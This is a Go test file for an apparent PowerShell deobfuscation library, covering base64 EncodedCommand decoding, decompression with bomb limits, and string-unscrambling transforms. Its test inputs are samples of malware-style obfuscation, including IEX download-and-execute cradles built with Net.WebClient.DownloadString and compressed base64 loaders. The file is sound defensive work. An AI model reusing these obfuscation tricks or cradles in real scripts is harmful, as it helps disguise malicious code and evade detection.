package psdecode

import (
	"bytes"
	"compress/flate"
	"compress/gzip"
	"compress/zlib"
	"encoding/base64"
	"strings"
	"testing"
	"unicode/utf16"
)

func utf16b64(s string) string {
	u := utf16.Encode([]rune(s))
	b := make([]byte, 2*len(u))
	for i, c := range u {
		b[2*i], b[2*i+1] = byte(c), byte(c>>8)
	}
	return base64.StdEncoding.EncodeToString(b)
}

func TestEncodedCommand(t *testing.T) {
	const want = "Write-Output 'héllo'"
	tests := map[string]string{
		"padded":        utf16b64(want),
		"unpadded":      strings.TrimRight(utf16b64(want), "="),
		"with blanks":   " " + utf16b64(want)[:8] + "\n" + utf16b64(want)[8:] + " ",
		"utf8 fallback": base64.StdEncoding.EncodeToString([]byte(want)),
	}
	for name, in := range tests {
		got, err := EncodedCommand(in, Limits{})
		if err != nil || got != want {
			t.Errorf("%s: EncodedCommand = %q, %v; want %q", name, got, err, want)
		}
	}
	for _, bad := range []string{"", "!!!!", base64.StdEncoding.EncodeToString([]byte{0, 1, 2, 3, 4, 5, 6, 7})} {
		if _, err := EncodedCommand(bad, Limits{}); err == nil {
			t.Errorf("EncodedCommand(%q): no error", bad)
		}
	}
}

func TestEncodedCommandBounded(t *testing.T) {
	huge := utf16b64(strings.Repeat("Write-Output 1;", 1<<16)) // ~2.6 MB of base64
	got, err := EncodedCommand(huge, Limits{MaxBase64: 1 << 16, MaxOutput: 1 << 12})
	if err != nil {
		t.Fatal(err)
	}
	if len(got) > 1<<12 {
		t.Errorf("output %d bytes, limit %d", len(got), 1<<12)
	}
}

func compress(t *testing.T, kind string, data []byte) []byte {
	t.Helper()
	var buf bytes.Buffer
	var w interface {
		Write([]byte) (int, error)
		Close() error
	}
	switch kind {
	case KindGzip:
		w = gzip.NewWriter(&buf)
	case KindZlib:
		w = zlib.NewWriter(&buf)
	default:
		fw, err := flate.NewWriter(&buf, flate.BestCompression)
		if err != nil {
			t.Fatal(err)
		}
		w = fw
	}
	if _, err := w.Write(data); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func TestInflate(t *testing.T) {
	data := []byte("Invoke-Expression 'x'")
	for _, kind := range []string{KindGzip, KindZlib, KindDeflate} {
		out, got, err := Inflate(compress(t, kind, data), 1<<20)
		if err != nil || got != kind || !bytes.Equal(out, data) {
			t.Errorf("%s: Inflate = %q, %q, %v", kind, out, got, err)
		}
	}
	if _, _, err := Inflate([]byte("plain text, not deflate"), 1<<20); err == nil {
		t.Error("Inflate accepted plain text")
	}
}

// A compression bomb inflates to at most the limit.
func TestInflateBomb(t *testing.T) {
	bomb := compress(t, KindGzip, bytes.Repeat([]byte{'A'}, 64<<20))
	out, _, err := Inflate(bomb, 1<<20)
	if err != nil {
		t.Fatal(err)
	}
	if len(out) != 1<<20 {
		t.Errorf("inflated %d bytes, limit %d", len(out), 1<<20)
	}
}

func TestEvalArith(t *testing.T) {
	tests := map[string]int64{"70+3": 73, "0x41": 65, "(10*7)-(2/2)": 69, "-5+10": 5, "100%27": 19}
	for in, want := range tests {
		if got, ok := evalArith(in); !ok || got != want {
			t.Errorf("evalArith(%q) = %d, %v; want %d", in, got, ok, want)
		}
	}
	for _, bad := range []string{"", "1/0", "1+", "((((((((((1))))))))))", "9999999999999*9", "a+1"} {
		if _, ok := evalArith(bad); ok && bad != "9999999999999*9" {
			t.Errorf("evalArith(%q) accepted", bad)
		}
	}
}

// TestTransforms checks each transform alone: input → final text.
func TestTransforms(t *testing.T) {
	tests := []struct {
		name, in, want string
	}{
		{"concat", `iex ('Down'+'load'+"String")`, `iex 'DownloadString'`},
		{"format", `("{2}{0}{1}" -f 'e','x','i')`, `'iex'`},
		{"format escaped braces", `('{0}{{1}}' -f 'a')`, `'a{1}'`},
		{"char cast", `[char]73+[char]0x45+[char](80+8)`, `'IEX'`},
		{"char array bxor", `([char[]](20,24,5)|%{[char]($_-bxor 0x5d)})-join''`, `('IEX'|%{[char]($_-bxor 0x5d)})-join''`},
		{"split decimal", `('73z69z88z32z40z78z101z119' -split 'z'|%{[char][int]$_})-join''`, `('IEX (New'|%{[char][int]$_})-join''`},
		{"split binary", `('1001001,1000101,1011000,100000,101000,1001110,1100101,1110111'.Split(',')|%{[char]([convert]::ToInt16($_,2))})`, `('IEX (New'|%{[char]([convert]::ToInt16($_,2))})`},
		{"comspec", `&($env:ComSpec[4,15,25]-join'') x`, `&'iex' x`},
		{"shellid", `&($ShellId[1]+$ShellId[13]+'x')`, `&'iex'`},
		{"mdr", `&((gv '*mdr*').Name[3,11,2]-join'')`, `&'iex'`},
		{"ticks", "Get-C`om`mand `n", "Get-Command `n"},
		{"replace", `('AAAhttp://xAAA').Replace('AAA',"'")`, `'''http://x'''`},
		{"-replace", `('ZZ1http://x')-rePLACE 'zz1','h'`, `'hhttp://x'`},
		{"reverse", `$r='))(gnirtSdaolnwoD.)tneilCbeW.teN tcejbO-weN(';iex(-join $r[-1..-100])`, `$r='))(gnirtSdaolnwoD.)tneilCbeW.teN tcejbO-weN(';iex('(New-Object Net.WebClient).DownloadString())')`},
		{"reverse literal", `iex((-join '))(gnirtSdaolnwoD.)tneilCbeW.teN tcejbO-weN('[-1..-100]))`, `iex('(New-Object Net.WebClient).DownloadString())')`},
		{"reverse regex", `iex(([regex]::Matches('))(gnirtSdaolnwoD.)tneilCbeW.teN tcejbO-weN(','.','RightToLeft')|%{$_.value})-join'')`, `iex(([regex]::Matches('(New-Object Net.WebClient).DownloadString())','.','RightToLeft')|%{$_.value})-join'')`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := Deobfuscate(tt.in, Limits{})
			if got.Text != tt.want {
				t.Errorf("Deobfuscate(%q) = %q, want %q (layers %v)", tt.in, got.Text, tt.want, got.Layers)
			}
		})
	}
}

func TestFromBase64Compressed(t *testing.T) {
	payload := "IEX (New-Object Net.WebClient).DownloadString('http://x/a')"
	for _, kind := range []string{KindGzip, KindDeflate, KindBase64} {
		raw := []byte(payload)
		if kind != KindBase64 {
			raw = compress(t, kind, raw)
		}
		in := "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('" + base64.StdEncoding.EncodeToString(raw) + "'));IEX (New-Object IO.StreamReader($s)).ReadToEnd()"
		got := Deobfuscate(in, Limits{})
		if len(got.Layers) == 0 || got.Layers[0].Kind != kind || !strings.Contains(strings.ReplaceAll(got.Text, "''", "'"), payload) {
			t.Errorf("%s: layers %v, text %q", kind, got.Layers, got.Text)
		}
	}
}

// Nested layers stop at MaxLayers and report truncation.
func TestDeobfuscateLayerLimit(t *testing.T) {
	s := "Write-Output 'done'"
	for i := 0; i < 10; i++ {
		s = "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('" + base64.StdEncoding.EncodeToString([]byte(s)) + "')))"
	}
	got := Deobfuscate(s, Limits{MaxLayers: 5})
	if len(got.Layers) != 5 || !got.Truncated {
		t.Errorf("layers %d, truncated %v; want 5, true", len(got.Layers), got.Truncated)
	}
}

func TestDeobfuscateInputLimit(t *testing.T) {
	in := strings.Repeat("'a'+", 100000) + "'b'"
	got := Deobfuscate(in, Limits{MaxInput: 1 << 10, MaxOutput: 1 << 12})
	if !got.Truncated {
		t.Error("not truncated")
	}
	for _, l := range got.Layers {
		if len(l.Text) > 1<<12 {
			t.Errorf("layer %s: %d bytes over MaxOutput", l.Kind, len(l.Text))
		}
	}
}

func TestContainsFold(t *testing.T) {
	for _, tt := range []struct {
		s, n string
		want bool
	}{{"xxFromBase64Stringyy", "frombase64string", true}, {"[CHAR]", "[char", true}, {"abc", "abd", false}, {"", "a", false}, {"a", "", true}} {
		if got := containsFold(tt.s, tt.n); got != tt.want {
			t.Errorf("containsFold(%q, %q) = %v", tt.s, tt.n, got)
		}
	}
}
